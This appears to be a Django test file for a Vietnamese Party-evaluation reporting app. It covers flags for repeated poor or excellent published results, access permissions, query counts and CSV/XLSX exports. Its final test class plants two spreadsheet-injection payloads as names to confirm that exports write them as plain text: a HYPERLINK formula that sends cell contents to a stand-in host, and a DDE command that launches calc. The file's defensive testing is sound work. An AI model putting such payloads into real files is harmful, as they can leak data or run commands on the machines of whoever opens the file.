"""Flags at publication (R35, R38): which published results raise which flag, over which
years, under which unit; who may see them (the report's permission matrix); what the page
costs whatever the size of the subtree; and files that keep every name as text."""

from __future__ import annotations

import csv
import datetime as dt
import io
import tempfile
from pathlib import Path
from typing import Any

from django.test import TestCase
from django.urls import reverse

from xeploai.accounts.models import AccessAction, AccessLog
from xeploai.core.testing import make_cycle, make_evaluation, make_member, make_personas, make_unit
from xeploai.cycles.models import (
    Cycle,
    LeaderEvaluation,
    Level,
    MemberEvaluation,
    Status,
    Step,
    UnitEvaluation,
    UnitEvaluationKind,
)
from xeploai.formats_safe import formula_like
from xeploai.imports.base import run_import
from xeploai.imports.kinds import RESULTS
from xeploai.imports.tests.spreadsheet import cells
from xeploai.members.models import Member, Post, PostKind
from xeploai.reports import flags
from xeploai.reports.flags import FlagKind
from xeploai.rules import Regime, regime_for_year
from xeploai.units.models import Unit, UnitKind

E, G, C, N = Level.EXCELLENT, Level.GOOD, Level.COMPLETED, Level.NOT_COMPLETED
LINK = '=HYPERLINK("http://x.example/?d="&A1,"Bấm")'
COMMAND = "+1+cmd|' /C calc'!A0"
TODAY = dt.date(2026, 3, 1)


def cycle_of(year: int) -> Cycle:
    return Cycle.objects.of_year(year) or make_cycle(year, regime_for_year(year), closed=True)


def member_results(member: Member, levels: dict[int, Level], step: Step = Step.PUBLISHED) -> None:
    for year, level in levels.items():
        make_evaluation(
            member, cycle_of(year), status=Status.CLASSIFIED, level_final=level, step=step
        )


def unit_results(unit: Unit, levels: dict[int, Level], step: Step = Step.PUBLISHED) -> None:
    for year, level in levels.items():
        UnitEvaluation.objects.create(
            cycle=cycle_of(year),
            unit=unit,
            unit_path=unit.path,
            kind=UnitEvaluationKind.ORGANISATION,
            status=Status.CLASSIFIED,
            level_final=level,
            step=step,
        )


def lead(member: Member, unit: Unit, **fields: Any) -> Post:
    fields.setdefault("start", dt.date(2020, 1, 1))
    fields.setdefault("title", "Phó Bí thư")
    return Post.objects.create(member=member, kind=PostKind.PARTY, unit=unit, **fields)


def leader_results(
    post: Post, levels: dict[int, Level], *, step: Step = Step.PUBLISHED, classified: bool = True
) -> None:
    """The results of the post's holder as a leader there."""
    for year, level in levels.items():
        LeaderEvaluation.objects.create(
            cycle=cycle_of(year), member=post.member, post=post, unit=post.unit,
            unit_path=post.unit.path, tier=post.tier, head=post.head, classified=classified,
            status=Status.CLASSIFIED, level_final=level, step=step,
        )  # fmt: skip


def found(unit: Unit, year: int = 2025) -> list[tuple[FlagKind, str, tuple[int, ...]]]:
    """The flags under `unit`: kind, subject code, years behind it."""
    return [
        (f.kind, f.subject_code, tuple(y.year for y in f.years))
        for f in flags.flags(unit, cycle_of(year), today=TODAY)
    ]


class FlagsTestCase(TestCase):
    def setUp(self) -> None:
        self.p = make_personas()
        self.an = self.p.an_member
        self.cycle = cycle_of(2025)

    # R35, members

    def test_it_flags_a_member_not_completed_two_years_running(self) -> None:
        member_results(self.an, {2023: N, 2024: N, 2025: N})
        other = make_member(self.p.cell_a, code="DV-2")
        member_results(other, {2024: G, 2025: N})
        self.assertEqual(found(self.p.district), [(FlagKind.MEMBER, "DV-AN", (2023, 2024, 2025))])
        flag = flags.flags(self.p.commune, self.cycle, today=TODAY)[0]
        self.assertEqual(
            (flag.unit_code, flag.title, flag.reason),
            ("CB-A", "Chi bộ xem xét", "Không hoàn thành nhiệm vụ 3 năm liền (2023–2025)"),
        )
        self.assertEqual(flag.years[0].words, "Không hoàn thành nhiệm vụ")

    def test_a_year_in_between_breaks_the_run(self) -> None:
        member_results(self.an, {2023: N, 2024: C, 2025: N})
        self.assertEqual(found(self.p.district), [])
        # A year with no result at all breaks it too: no cycle of 2024 for this member.
        other = make_member(self.p.cell_a, code="DV-2")
        member_results(other, {2023: N, 2025: N})
        self.assertEqual(found(self.p.district), [])

    def test_unpublished_results_raise_no_flag(self) -> None:
        member_results(self.an, {2024: N})
        member_results(self.an, {2025: N}, step=Step.APPRAISED)  # appraised, not yet public
        other = make_member(self.p.cell_a, code="DV-2")
        member_results(other, {2024: N}, step=Step.DECIDED)
        member_results(other, {2025: N})
        self.assertEqual(found(self.p.district), [])
        MemberEvaluation.objects.filter(member=self.an).update(step=Step.PUBLISHED)
        self.assertEqual(found(self.p.district), [(FlagKind.MEMBER, "DV-AN", (2024, 2025))])

    def test_it_lists_only_the_subtree_but_follows_a_member_who_moved_in(self) -> None:
        em = Member.objects.get(code="DV-EM")
        member_results(em, {2024: N, 2025: N})
        self.assertEqual(found(self.p.cell_a), [])
        self.assertEqual(found(self.p.cell_b), [(FlagKind.MEMBER, "DV-EM", (2024, 2025))])
        # An, in cell B in 2024 (outside cell A), in cell A in 2025: both years count.
        MemberEvaluation.objects.create(
            member=self.an,
            cycle=cycle_of(2024),
            cell=self.p.cell_b,
            unit_path=self.p.cell_b.path,
            status=Status.CLASSIFIED,
            level_final=N,
            step=Step.PUBLISHED,
        )
        member_results(self.an, {2025: N})
        self.assertEqual(found(self.p.cell_a), [(FlagKind.MEMBER, "DV-AN", (2024, 2025))])

    def test_an_imported_label_counts_by_its_rank_and_keeps_its_words(self) -> None:
        legacy = make_cycle(2017, Regime.LEGACY, closed=True)
        MemberEvaluation.objects.create(
            member=self.an,
            cycle=legacy,
            cell=self.p.cell_a,
            unit_path=self.p.cell_a.path,
            status=Status.CLASSIFIED,
            label="Vi phạm tư cách",
            ordinal=4,
            step=Step.PUBLISHED,
        )
        member_results(self.an, {2018: N})
        [flag] = flags.flags(self.p.cell_a, cycle_of(2018), today=TODAY)
        self.assertEqual(
            [y.words for y in flag.years],
            ["Vi phạm tư cách (ghi theo quy định trước đây)", "Không hoàn thành nhiệm vụ"],
        )

    # R35, leaders

    def test_it_flags_a_leader_not_completed_as_a_leader_two_years_running(self) -> None:
        member_results(self.an, {2024: N, 2025: N})
        post = lead(self.an, self.p.cell_a, title="Bí thư")
        leader_results(post, {2024: N, 2025: N})
        self.assertEqual(
            found(self.p.commune),
            [
                (FlagKind.MEMBER, "DV-AN", (2024, 2025)),
                (FlagKind.LEADER, "DV-AN", (2024, 2025)),
            ],
        )
        leader = flags.flags(self.p.commune, self.cycle, today=TODAY)[1]
        self.assertEqual((leader.posts, leader.unit_code), ("Bí thư, Chi bộ xóm 1", "CB-A"))
        self.assertEqual(leader.title, "Xem xét cho thôi giữ chức vụ hoặc bố trí công tác khác")
        # By their level as a leader, whatever their level as a member, at whichever post
        # they were classified each year; listed under this year's post.
        other = make_member(self.p.cell_a, code="DV-2")
        member_results(other, {2024: G, 2025: G})
        leader_results(lead(other, self.p.cell_b, organisation="Hội Phụ nữ xã"), {2024: N})
        leader_results(lead(other, self.p.commune), {2025: N})
        self.assertIn((FlagKind.LEADER, "DV-2", (2024, 2025)), found(self.p.commune))
        self.assertEqual(found(self.p.cell_b), [])

    def test_a_year_not_classified_there_or_not_as_a_leader_breaks_the_run(self) -> None:
        member_results(self.an, {2024: N, 2025: N})
        post = lead(self.an, self.p.cell_a)
        leader_results(post, {2025: N})  # 2024 imported as a member's result only
        self.assertEqual(found(self.p.commune), [(FlagKind.MEMBER, "DV-AN", (2024, 2025))])
        other = make_member(self.p.cell_a, code="DV-2")
        below = lead(other, self.p.cell_a)
        leader_results(below, {2024: N}, classified=False)  # classified at another post
        leader_results(below, {2025: N})
        leader_results(lead(other, self.p.commune), {2024: N}, step=Step.APPRAISED)
        self.assertEqual(found(self.p.commune), [(FlagKind.MEMBER, "DV-AN", (2024, 2025))])

    # R38, organisations

    def test_an_excellent_organisation_may_be_proposed_as_exemplary(self) -> None:
        unit_results(self.p.cell_a, {2024: G, 2025: E})
        unit_results(self.p.cell_b, {2025: G})
        unit_results(self.p.commune, {2025: E}, step=Step.APPRAISED)  # not yet public
        self.assertEqual(found(self.p.district), [(FlagKind.EXEMPLARY, "CB-A", (2025,))])
        [flag] = flags.flags(self.p.district, self.cycle, today=TODAY)
        self.assertEqual(
            (flag.unit_code, flag.title, flag.reason),
            (
                "CB-A",
                "Có thể đề nghị công nhận “Trong sạch vững mạnh tiêu biểu”",
                "Hoàn thành xuất sắc nhiệm vụ năm 2025",
            ),
        )

    def test_five_excellent_years_running_qualify_for_the_commendation(self) -> None:
        unit_results(self.p.cell_a, {2020: G, 2021: E, 2022: E, 2023: E, 2024: E, 2025: E})
        unit_results(self.p.cell_b, {2020: E, 2021: E, 2022: E, 2023: E, 2025: E})  # not 2024
        unit_results(self.p.commune, {2021: E, 2022: E, 2023: G, 2024: E, 2025: E})
        years = (2021, 2022, 2023, 2024, 2025)
        self.assertEqual(
            found(self.p.district),
            [
                (FlagKind.EXEMPLARY, "DB-XA", (2025,)),
                (FlagKind.EXEMPLARY, "CB-A", (2025,)),
                (FlagKind.FIVE_YEARS, "CB-A", years),
                (FlagKind.EXEMPLARY, "CB-B", (2025,)),
            ],
        )
        five = flags.flags(self.p.cell_a, self.cycle, today=TODAY)[1]
        self.assertEqual(
            (five.title, five.reason),
            (
                "Đủ điều kiện đề nghị khen thưởng 5 năm liền",
                "Hoàn thành xuất sắc nhiệm vụ 5 năm liền (2021–2025)",
            ),
        )

    def test_imported_years_count_towards_the_five(self) -> None:
        tmp = Path(tempfile.mkdtemp()) / "results.csv"
        lines = [
            f"{year},Tổ chức,CB-A,Hoàn thành xuất sắc nhiệm vụ,," for year in range(2021, 2025)
        ]
        tmp.write_text("\n".join(["Năm,Đối tượng,Mã,Kết quả,Lý do,Mã chi bộ", *lines]), "utf-8")
        report = run_import(RESULTS, tmp)
        self.assertEqual((report.errors, report.created), ([], 4))
        unit_results(self.p.cell_a, {2025: E})
        self.assertEqual(
            found(self.p.cell_a),
            [
                (FlagKind.EXEMPLARY, "CB-A", (2025,)),
                (FlagKind.FIVE_YEARS, "CB-A", (2021, 2022, 2023, 2024, 2025)),
            ],
        )

    def test_collectives_and_the_rules_before_2018_raise_no_reward_flag(self) -> None:
        UnitEvaluation.objects.create(
            cycle=self.cycle,
            unit=self.p.commune,
            unit_path=self.p.commune.path,
            kind=UnitEvaluationKind.COLLECTIVE,
            status=Status.CLASSIFIED,
            level_final=E,
            step=Step.PUBLISHED,
        )
        legacy = make_cycle(2016, Regime.LEGACY, closed=True)
        UnitEvaluation.objects.create(
            cycle=legacy,
            unit=self.p.cell_a,
            unit_path=self.p.cell_a.path,
            status=Status.CLASSIFIED,
            label="Trong sạch vững mạnh",
            ordinal=1,
            step=Step.PUBLISHED,
        )
        self.assertEqual(found(self.p.district), [])
        self.assertEqual(found(self.p.district, 2016), [])


class FlagsPageTestCase(TestCase):
    def setUp(self) -> None:
        self.p = make_personas()
        member_results(self.p.an_member, {2024: N, 2025: N})
        unit_results(self.p.cell_a, {2025: E})

    def urls(self, code: str) -> list[str]:
        return [
            reverse("reports:flags", args=[code, 2025]),
            *(reverse("reports:flags_download", args=[code, 2025, f]) for f in ("xlsx", "csv")),
        ]

    def test_who_sees_which_unit_s_flags(self) -> None:
        p = self.p
        district, commune, cell_a = p.district.code, p.commune.code, p.cell_a.code
        for code in (district, commune, cell_a):
            for url in self.urls(code):
                response = p.client(None).get(url)
                self.assertEqual(response.status_code, 302, url)
                self.assertIn(reverse("accounts:login"), response["Location"])
        matrix = {
            p.an: (),  # a member without a role: their own record only
            p.nobody: (),
            p.em: (),  # the sibling cell's secretary sees nothing of cell A or above
            p.binh: (cell_a,),
            p.chi: (commune, cell_a),
            p.dung: (district, commune, cell_a),
        }
        for user, allowed in matrix.items():
            client = p.client(user)
            for code in (district, commune, cell_a):
                for url in self.urls(code):
                    expected = 200 if code in allowed else 404
                    self.assertEqual(client.get(url).status_code, expected, (user.username, url))
        # Em sees the flags of her own cell, where there are none.
        page = p.client(p.em).get(reverse("reports:flags", args=[p.cell_b.code, 2025]))
        self.assertContains(page, "Không có trường hợp nào trong các kết quả đã công khai.")

    def test_the_page_lists_each_unit_s_flags_in_vietnamese(self) -> None:
        page = self.p.client(self.p.chi).get(reverse("reports:flags", args=["DB-XA", 2025]))
        self.assertContains(page, "Đề xuất xem xét, khen thưởng sau xếp loại năm 2025")
        self.assertContains(page, '<a href="/bao-cao/CB-A/2025/de-xuat/">Chi bộ xóm 1</a>')
        self.assertContains(page, "<h3>Trần Thị An</h3>")
        self.assertContains(page, "Không hoàn thành nhiệm vụ 2 năm liền (2024–2025)")
        self.assertContains(page, "<li>2024: Không hoàn thành nhiệm vụ</li>")
        self.assertContains(page, "Có thể đề nghị công nhận “Trong sạch vững mạnh tiêu biểu”")
        self.assertContains(page, "<li>Chi bộ xem xét: <strong>1</strong></li>")
        for fmt in ("xlsx", "csv"):
            self.assertContains(page, reverse("reports:flags_download", args=["DB-XA", 2025, fmt]))
        log = AccessLog.objects.get()
        self.assertEqual(
            (log.action, log.detail),
            (AccessAction.VIEW, "đề xuất sau xếp loại DB-XA năm 2025; 2 dòng"),
        )

    def test_an_unknown_year_or_format_is_not_found(self) -> None:
        client = self.p.client(self.p.dung)
        self.assertEqual(
            client.get(reverse("reports:flags", args=["DB-HUYEN", 1999])).status_code, 404
        )
        url = reverse("reports:flags_download", args=["DB-HUYEN", 2025, "exe"])
        self.assertEqual(client.get(url).status_code, 404)
        self.assertFalse(AccessLog.objects.filter(action=AccessAction.EXPORT).exists())

    def test_it_pins_the_query_count_whatever_the_subtree(self) -> None:
        client = self.p.client(self.p.dung)
        url = reverse("reports:flags", args=["DB-HUYEN", 2025])
        leader_results(lead(self.p.an_member, self.p.cell_a), {2024: N, 2025: N})
        client.get(url)  # the session's first request reads what later ones find cached
        with self.assertNumQueries(QUERIES):
            small = client.get(url)
        self.assertEqual(len(small.context["groups"]), 1)
        for n in range(6):  # six more communes, each with flagged members and organisations
            commune = make_unit(self.p.district, kind=UnitKind.GRASSROOTS_COMMITTEE)
            cell = make_unit(commune)
            for _i in range(3):
                member = make_member(cell)
                member_results(member, {2023: N, 2024: N, 2025: N})
                leader_results(lead(member, cell), {2024: N, 2025: N})
            unit_results(commune, {2021: E, 2022: E, 2023: E, 2024: E, 2025: E})
            unit_results(cell, {2025: E if n % 2 else G})
        with self.assertNumQueries(QUERIES):
            large = client.get(url)
        self.assertEqual(len(large.context["groups"]), 1 + 6 * 2)
        # Below the top of the tree, one more: the ancestors, for the links above the title.
        client = self.p.client(self.p.chi)
        url = reverse("reports:flags", args=["DB-XA", 2025])
        client.get(url)
        with self.assertNumQueries(QUERIES + 1):
            client.get(url)

    def test_the_files_hold_the_same_lists_and_are_logged(self) -> None:
        client = self.p.client(self.p.chi)
        response = client.get(reverse("reports:flags_download", args=["DB-XA", 2025, "csv"]))
        self.assertEqual(response["Content-Type"], "text/csv; charset=utf-8")
        self.assertIn("de-xuat-sau-xep-loai-2025-DB-XA.csv", response["Content-Disposition"])
        self.assertTrue(response.content.startswith("\ufeff".encode()))
        table = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        self.assertEqual(table[0][:4], ["STT", "Đơn vị", "Mã đơn vị", "Nội dung"])
        self.assertEqual(
            [row[3:6] for row in table[1:]],
            [
                ["Chi bộ xem xét", "Trần Thị An", "DV-AN"],
                [
                    "Có thể đề nghị công nhận “Trong sạch vững mạnh tiêu biểu”",
                    "Chi bộ xóm 1",
                    "CB-A",
                ],
            ],
        )
        self.assertEqual(
            table[1][7], "2024: Không hoàn thành nhiệm vụ; 2025: Không hoàn thành nhiệm vụ"
        )
        response = client.get(reverse("reports:flags_download", args=["DB-XA", 2025, "xlsx"]))
        self.assertTrue(response.content.startswith(b"PK"))
        texts = [c.text for c in cells(response.content)]
        self.assertIn("Chi bộ xem xét", texts)
        exports = AccessLog.objects.filter(action=AccessAction.EXPORT).values_list(
            "detail", flat=True
        )
        self.assertEqual(sorted(exports), ["đề xuất DB-XA 2025 csv", "đề xuất DB-XA 2025 xlsx"])


# The queries of the page: the session, the user, their second factor and their roles, the
# unit, the cycle, the members' results of the year and their earlier years, the leaders'
# and the organisations' results of the year and their earlier years, the access log's entry,
# the years (a district has no ancestors to read).
QUERIES = 14


class FlagsExportsSafeTestCase(TestCase):
    def setUp(self) -> None:
        self.p = make_personas()
        Unit.objects.filter(pk=self.p.cell_a.pk).update(name=LINK)
        Member.objects.filter(pk=self.p.an_member.pk).update(full_name=COMMAND)
        member_results(self.p.an_member, {2024: N, 2025: N})
        post = lead(self.p.an_member, self.p.cell_a, title="@SUM(1+1)", organisation="-2+3")
        leader_results(post, {2024: N, 2025: N})
        unit_results(self.p.cell_a, {2025: E})
        self.found = flags.flags(Unit.objects.get(code="DB-XA"), cycle_of(2025), today=TODAY)
        self.unit = Unit.objects.get(code="DB-XA")

    def test_the_spreadsheet_writes_names_as_text_never_formulas(self) -> None:
        found = cells(flags.xlsx(self.unit, cycle_of(2025), self.found))
        self.assertEqual([c for c in found if c.formula], [])
        texts = [c for c in found if not c.number]
        self.assertEqual([c for c in texts if formula_like(c.text) and not c.quote_prefix], [])
        prefixed = {c.text for c in texts if c.quote_prefix}
        self.assertLessEqual({LINK, COMMAND, "@SUM(1+1), -2+3"}, prefixed)

    def test_the_csv_file_quotes_what_a_spreadsheet_would_compute(self) -> None:
        content = flags.csv_file(self.unit, cycle_of(2025), self.found).decode("utf-8-sig")
        table = list(csv.reader(io.StringIO(content)))
        every = [cell for row in table for cell in row]
        self.assertEqual([c for c in every if formula_like(c)], [])
        self.assertLessEqual({"'" + LINK, "'" + COMMAND, "'@SUM(1+1), -2+3"}, set(every))
